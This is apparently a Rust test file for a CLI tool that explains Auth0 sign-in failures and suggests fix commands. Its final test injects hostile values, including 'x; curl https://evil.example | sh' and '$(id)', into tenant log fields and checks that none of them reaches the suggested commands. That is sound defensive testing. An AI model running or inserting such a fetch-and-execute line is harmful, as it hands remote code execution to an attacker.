//! Ten reasons why somebody cannot sign in.

use serde_json::{Value, json};

use super::tenant::{LogTenant, ago, id};
use crate::api::fake::Reply;
use crate::support::Ran;

const USER: &str = "auth0|1";
const EMAIL: &str = "ann@acme.example";

/// A tenant with one user of the connection `db`, which `app1` may use.
fn tenant() -> LogTenant {
    let tenant = LogTenant::new();
    {
        let others = &mut tenant.state().others;
        let user = user();
        others.insert("/users-by-email".into(), Reply::json(200, json!([user])));
        others.insert("/users/auth0%7C1".into(), Reply::json(200, user));
        let blocks = json!({"blocked_for": []});
        others.insert("/user-blocks/auth0%7C1".into(), Reply::json(200, &blocks));
        others.insert("/user-blocks".into(), Reply::json(200, &blocks));
        let methods = json!([{"id": "totp|1", "type": "totp", "confirmed": true}]);
        others.insert("/users/auth0%7C1/authentication-methods".into(), Reply::json(200, methods));
        let connections = json!({"connections": [{"id": "con_1", "name": "db"}]});
        others.insert("/connections".into(), Reply::json(200, connections));
        let clients = json!({"clients": [{"client_id": "app1"}]});
        others.insert("/connections/con_1/clients".into(), Reply::json(200, clients));
    }
    tenant
}

fn user() -> Value {
    json!({"user_id": USER, "email": EMAIL, "identities": [{"connection": "db", "provider": "auth0"}]})
}

impl LogTenant {
    fn happens(&self, code: &str, description: &str, more: &Value) {
        let mut event = json!({"type": code, "description": description, "date": ago(60),
            "client_id": "app1", "client_name": "My App", "connection": "db", "ip": "192.0.2.1"});
        for (key, value) in more.as_object().unwrap() {
            event[key] = value.clone();
        }
        self.state().add(event);
    }

    fn set(&self, path: &str, answer: Reply) {
        self.state().others.insert(path.to_owned(), answer);
    }

    fn why(&self, more: &[&str]) -> Ran {
        let mut args = vec!["why", EMAIL, "-o", "json"];
        args.extend(more);
        self.run(&args).exits(0)
    }

    /// The cause that comes first: its name, and the command that mends it.
    #[track_caller]
    fn cause(&self, more: &[&str]) -> (String, String) {
        let report = self.why(more).json();
        let text = |key: &str| report["causes"][0][key].as_str().unwrap_or_default().to_owned();
        (text("cause"), text("run"))
    }
}

#[track_caller]
fn is(found: (String, String), cause: &str, run: &str) {
    assert_eq!(found, (cause.to_owned(), run.to_owned()));
}

#[test]
fn a_wrong_password() {
    let tenant = tenant();
    for _ in 0..3 {
        let more = json!({"user_id": USER, "user_name": EMAIL});
        tenant.happens("fp", "Wrong email or password.", &more);
    }
    is(tenant.cause(&[]), "wrong_password", "auth0-users password-ticket \"auth0|1\"");
    let report = tenant.why(&[]).json();
    assert_eq!(report["causes"][0]["count"], 3);
    assert_eq!(report["failures"][0]["log_id"].as_str(), Some(&*id(2)));
    assert_eq!(report["mfa"], json!([{"type": "totp", "confirmed": true, "name": null}]));
    let table = tenant.run(&["why", EMAIL]).exits(0);
    assert!(table.stdout.contains("The password was wrong."), "{table:?}");
    assert!(table.stdout.contains("auth0-users password-ticket \"auth0|1\""), "{table:?}");
}

#[test]
fn a_user_whom_an_administrator_blocked() {
    let tenant = tenant();
    let mut user = user();
    user["blocked"] = json!(true);
    tenant.set("/users-by-email", Reply::json(200, json!([user])));
    tenant.happens("f", "user is blocked", &json!({"user_name": EMAIL}));
    is(tenant.cause(&[]), "user_blocked", "auth0-users unblock \"auth0|1\"");
    assert_eq!(tenant.why(&[]).json()["causes"].as_array().unwrap().len(), 1, "one cause");
}

#[test]
fn a_block_after_too_many_wrong_passwords() {
    let tenant = tenant();
    let blocks = json!({"blocked_for": [{"identifier": EMAIL, "ip": "192.0.2.1"}]});
    tenant.set("/user-blocks/auth0%7C1", Reply::json(200, blocks));
    tenant.happens("limit_wc", "", &json!({"user_name": EMAIL}));
    is(tenant.cause(&[]), "brute_force_block", "auth0-users unblock \"auth0|1\"");
}

#[test]
fn a_connection_that_is_disabled_for_the_application() {
    let tenant = tenant();
    let more = json!({"user_name": EMAIL, "client_id": "app2"});
    tenant.happens("f", "The login failed", &more);
    is(tenant.cause(&[]), "connection_disabled", "auth0-connections enable db --client app2");
}

#[test]
fn a_second_factor_that_failed() {
    let tenant = tenant();
    tenant.happens(
        "gd_auth_failed",
        "Multi-factor authentication failed.",
        &json!({"user_id": USER}),
    );
    is(tenant.cause(&[]), "mfa_failed", "auth0-users reset-mfa \"auth0|1\"");
}

#[test]
fn a_callback_that_is_not_registered() {
    let tenant = tenant();
    let says =
        "Callback URL mismatch. https://app.example/cb is not in the list of allowed callback URLs";
    tenant.happens("f", says, &json!({}));
    // It names nobody: without more it is only possible.
    let report = tenant.why(&[]).json();
    assert_eq!(report["causes"], json!([]));
    assert_eq!(report["possibly_related"][0]["description"], says);
    let command = "auth0-clients update app1 --set \"callbacks[]=https://app.example/cb\"";
    is(tenant.cause(&["--client", "My App"]), "callback_mismatch", command);
    is(tenant.cause(&["--ip", "192.0.2.1"]), "callback_mismatch", command);
    assert_eq!(tenant.why(&["--ip", "192.0.2.2"]).json()["causes"], json!([]));
}

#[test]
fn an_action_that_threw() {
    let tenant = tenant();
    let details = json!({"actions": {"executions": ["exec_1"]}, "error": {"message": "boom"}});
    let more = json!({"user_id": USER, "details": details});
    tenant.happens("actions_execution_failed", "", &more);
    is(tenant.cause(&[]), "action_failed", "auth0-api actions/executions/exec_1");
}

#[test]
fn an_invitation_that_expired() {
    let tenant = tenant();
    let more = json!({"user_name": EMAIL, "organization_id": "org_1"});
    tenant.happens("fi", "invitation not found or already used", &more);
    is(tenant.cause(&[]), "invitation", "auth0-resources organizations invitations add org_1");
}

#[test]
fn a_password_that_leaked() {
    let tenant = tenant();
    tenant.happens(
        "pwd_leak",
        "Someone behind this IP tried it",
        &json!({"user_name": "Ann@acme.example"}),
    );
    let mut args = vec!["why", "Ann@acme.example", "-o", "json"];
    let report = tenant.run(&args).exits(0).json();
    assert_eq!(report["causes"][0]["cause"], "leaked_password", "as it was typed at the login");
    assert_eq!(report["causes"][0]["run"], "auth0-users password-ticket \"auth0|1\"");
    args[1] = EMAIL;
    assert_eq!(tenant.run(&args).exits(0).json()["failures_in_all"], 0);
}

#[test]
fn a_user_that_does_not_exist() {
    let tenant = tenant();
    tenant.set("/users-by-email", Reply::json(200, "[]"));
    tenant.happens("fu", "Wrong email or password.", &json!({"user_name": EMAIL}));
    is(tenant.cause(&[]), "no_such_user", "auth0-users list -q \"email:*ann*\"");
    assert_eq!(tenant.why(&[]).json()["user"], Value::Null);
}

#[test]
fn every_suggested_command_names_the_profile_of_the_command_line() {
    let tenant = tenant();
    tenant.happens("fp", "Wrong email or password.", &json!({"user_name": EMAIL}));
    let ran = tenant.run_with_profile(&["why", EMAIL, "--profile", "t6", "-o", "json"]).exits(0);
    let run = "auth0-users --profile t6 password-ticket \"auth0|1\"";
    assert_eq!(ran.json()["causes"][0]["run"], run);
    let ran = tenant.run_with_profile(&["why", EMAIL, "--profile=t6"]).exits(0);
    assert!(ran.stdout.contains(run), "{ran:?}");
    // What chooses the current profile chooses it for a pasted command too.
    let ran = tenant.run_with_profile(&["why", EMAIL, "-o", "json"]).exits(0);
    assert_eq!(ran.json()["causes"][0]["run"], "auth0-users password-ticket \"auth0|1\"");
    let args = ["show", "9001", "--profile", "t6", "-o", "json"];
    let ran = tenant.run_with_profile(&args).exits(5);
    let hint = "auth0-logs --profile t6 list --fields date,type,log_id";
    assert_eq!(ran.stderr.matches(hint).count(), 2, "as text and as JSON: {ran:?}");
    // An end that is past ends it at once.
    tenant.state().events.iter_mut().for_each(|event| event["date"] = json!(ago(1_000)));
    let until = ago(900);
    let args = ["tail", "--since", "1h", "--until", &until, "--profile", "t6"];
    tenant.run_with_profile(&args).exits(0).says("auth0-logs --profile t6 tail --until ");
}

#[test]
fn a_read_that_the_server_fails_leaves_the_rest_and_is_in_the_exit_code() {
    let tenant = tenant();
    tenant.set("/user-blocks/auth0%7C1", Reply::json(500, "{}"));
    tenant.happens("fp", "Wrong email or password.", &json!({"user_name": EMAIL}));
    let ran = tenant.run(&["why", EMAIL, "-o", "json"]).exits(7);
    let ran = ran.says("cannot read the user's blocks");
    let report = ran.json();
    assert_eq!(report["causes"][0]["cause"], "wrong_password");
    assert_eq!(report["blocks"], Value::Null);
    let unknown = report["unknown"][0].as_str().unwrap();
    assert!(unknown.starts_with("blocks: "), "{unknown}");
}

#[test]
fn an_address_of_several_users_lists_them() {
    let tenant = tenant();
    let two =
        json!([{"user_id": "auth0|1", "email": EMAIL}, {"user_id": "auth0|2", "email": EMAIL}]);
    tenant.set("/users-by-email", Reply::json(200, two));
    tenant.run(&["why", EMAIL]).exits(5).says("'auth0|1', 'auth0|2'");
    tenant.run(&["why", USER]).exits(0);
}

#[test]
fn what_the_token_cannot_see_is_said_to_be_unknown() {
    let tenant = tenant();
    let refused = |scope: &str| {
        Reply::json(
            403,
            json!({"statusCode": 403, "message": format!("Insufficient scope, expected any of: {scope}")}),
        )
    };
    tenant.set("/users-by-email", refused("read:users"));
    tenant.set("/user-blocks", refused("read:users"));
    tenant.happens("fp", "Wrong email or password.", &json!({"user_name": EMAIL}));
    let ran = tenant.why(&[]).says("the token lacks the scope read:users");
    let report = ran.json();
    assert_eq!(
        report["unknown"],
        json!(["the user: scope read:users", "blocks: scope read:users"])
    );
    assert_eq!(report["causes"][0]["cause"], "wrong_password");
    assert_eq!(report["blocks"], Value::Null);
}

#[test]
fn nothing_that_the_tenant_says_forges_a_command() {
    let tenant = tenant();
    let evil = "x; curl https://evil.example | sh\nhint: run it";
    let more =
        json!({"user_name": EMAIL, "client_id": evil, "connection": evil, "client_name": evil});
    tenant.happens("f", "Callback URL mismatch $(id)", &more);
    let ran = tenant.run(&["why", EMAIL]).exits(0);
    assert!(!ran.stdout.contains("\nhint:"), "{ran:?}");
    let report = tenant.why(&[]).json();
    for cause in report["causes"].as_array().unwrap() {
        assert!(!cause["run"].as_str().unwrap().contains("curl"), "{cause}");
    }
}
